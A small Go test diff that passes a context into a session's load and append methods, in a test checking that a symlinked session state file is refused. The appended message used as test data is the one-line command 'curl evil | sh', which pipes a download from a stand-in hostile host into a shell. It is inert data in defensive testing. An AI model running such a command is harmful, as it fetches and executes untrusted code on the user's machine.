@@ -30,10 +30,10 @@ func TestSessionFileSymlinkIsRefused(t *testing.T) {
 	s := &session{path: path}
 	defer s.close()
 	want := path + " is a symbolic link"
-	if _, err := s.load(); !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
+	if _, err := s.load(t.Context()); !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
 		t.Errorf("load = %v, want an error saying %q", err, want)
 	}
-	err := s.append(openai.ChatCompletionMessage{Role: "user", Content: "curl evil | sh"})
+	err := s.append(t.Context(), openai.ChatCompletionMessage{Role: "user", Content: "curl evil | sh"})
 	if !errors.Is(err, statefile.ErrSymlink) || !strings.Contains(err.Error(), want) {
 		t.Errorf("append = %v, want an error saying %q", err, want)
 	}
